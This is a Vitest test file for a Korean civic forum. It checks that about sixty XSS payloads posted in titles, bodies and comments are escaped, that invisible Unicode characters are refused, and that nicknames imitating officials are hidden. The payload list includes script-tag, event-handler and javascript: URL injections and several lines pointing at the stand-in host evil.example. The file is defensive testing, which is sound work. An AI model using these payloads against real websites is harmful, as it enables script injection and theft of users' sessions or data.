import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { newToken } from '#kernel/crypto.ts'
import type { CitizenBrowser } from '#test/citizen.ts'
import { openTown, type Town } from '#test/town.ts'
import { isLikeOfficial, shownAs } from './shown-as.rule.ts'

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onpointerrawupdate',
]
const TAGS = ['img', 'svg', 'body', 'video', 'audio', 'details', 'input', 'iframe', 'object', 'math']
/** What must be shown as text, wherever it is written. */
const VECTORS = [
  ...TAGS.map((tag, n) => `<${tag} src=x ${HANDLERS[n % HANDLERS.length]}=alert(${n})>`),
  ...HANDLERS.map((handler) => `"><b ${handler}='alert(1)' x="`),
  ...HANDLERS.map((handler) => `' ${handler}=alert(1) autofocus tabindex=1 '`),
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>go</button></form>',
  '<a href="javascript:alert(1)">here</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">here</a>',
  '<a href="data:text/html,<script>alert(1)</script>">here</a>',
  '[here](javascript:alert(1))',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '<<script>alert(1)//<</script>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img\nsrc=x\nonerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
  ']]></summary><script>alert(1)</script>',
  '<input name=_csrf value=stolen>',
  '<div id=main class=panel style=position:fixed>',
]

const TAG =
  /<(?!\/?(?:em|mark)\b)(script|img|svg|iframe|object|embed|math|style|base|meta|link|form|template|video|audio|xmp|noscript)\b[^>]*(?:alert|evil)/i

describe('Article 13: what hostile writers send is shown as text or refused', () => {
  let town: Town
  beforeAll(async () => {
    town = await openTown()
  })
  afterAll(() => town.close())
  const page = async (path: string) => (await town.asStranger().get(path)).body

  it(`${VECTORS.length} vectors in title, text and comment stay text, on every page that shows them`, async () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(60)
    let writer: CitizenBrowser | undefined
    for (const [n, vector] of VECTORS.entries()) {
      if (n % 9 === 0) writer = await town.asCitizen()
      if (!writer) throw new Error('nobody writes')
      const form = { title: `${n} ${vector}`.slice(0, 100), body: vector, once: newToken() }
      const res = await writer.post('/boards/free/new', { ...form, advised: 'yes' })
      expect(res.statusCode, vector).toBe(303)
      const id = Number(/free\/(\d+)\//.exec(String(res.headers.location))?.[1])
      await writer.post(`/boards/free/${id}/comments`, { body: vector })
      for (const path of [`/boards/free/${id}`, '/boards/free', '/forum', '/feeds/boards/free'])
        expect(TAG.exec(await page(path))?.[0], `${path} ${vector}`).toBeUndefined()
      for (const path of [`/boards/free/${id}/mine`, `/boards/free/${id}/edit`, '/account/postings'])
        expect(TAG.exec((await writer.get(path)).body)?.[0], `${path} ${vector}`).toBeUndefined()
    }
    const officer = await town.asPost('information-head')
    expect(TAG.exec((await officer.get('/office/boards')).body)?.[0]).toBeUndefined()
  }, 120_000)

  it('letters that nobody sees, marks of direction and zero characters do not get through', async () => {
    const writer = await town.asCitizen()
    const send = (title: string, body = '내용') =>
      writer.post('/boards/free/new', { title, body, once: newToken(), advised: 'yes' })
    const zero = await send('영\u0000문자')
    expect(zero.statusCode).toBe(422)
    expect(zero.body).toContain('보이지 않는 문자')
    const lone = await send('깨진 \uFFFD 글자')
    expect(lone.statusCode).toBe(422)
    const res = await send('뒤집\u202E힌 제\u200B목', '본\u2066문')
    expect(res.statusCode).toBe(303)
    const body = await page(String(res.headers.location).replace(/\/mine.*/, ''))
    expect(body).toContain('뒤집힌 제목')
    expect(body).not.toMatch(/[\u202E\u200B\u2066]/)
    const only = await send('\u200B\u3164', '내용')
    expect(only.statusCode).toBe(422)
  })

  it.each([
    '관리자',
    '관\u200B리자',
    '관 리 자',
    '★공식★',
    'ΑDMIN'.replace('Α', 'a'),
    'аdmin',
    '용인시청',
    '운.영.자',
  ])('a nickname like an officer’s, %s, is not shown', (name) => {
    expect(isLikeOfficial(name)).toBe(true)
    expect(shownAs('nickname', name)).toBe('')
  })
  it('what a badge could be drawn of is taken out of a name; others stay', () => {
    expect(shownAs('nickname', '✔ 산책 [✓]')).toBe('산책')
    expect(shownAs('nickname', '기흥 주민')).toBe('기흥 주민')
    expect(shownAs('masked', '산책하는이')).toBe('산***')
    expect(shownAs('none', '산책하는이')).toBe('')
    expect(shownAs('nickname', '<b onclick=alert(1)>')).not.toMatch(/[<>=]/)
  })
  it('an officer’s badge is drawn for what officers wrote alone', async () => {
    const writer = await town.asCitizen({ nickname: '시의답변' })
    const res = await writer.post('/boards/free/new', { title: '사칭', body: '내용', once: newToken() })
    const id = Number(/free\/(\d+)\//.exec(String(res.headers.location))?.[1])
    await writer.post(`/boards/free/${id}/comments`, { body: '시의 답변입니다' })
    expect(await page(`/boards/free/${id}`)).not.toContain('krds-badge')
  })
})
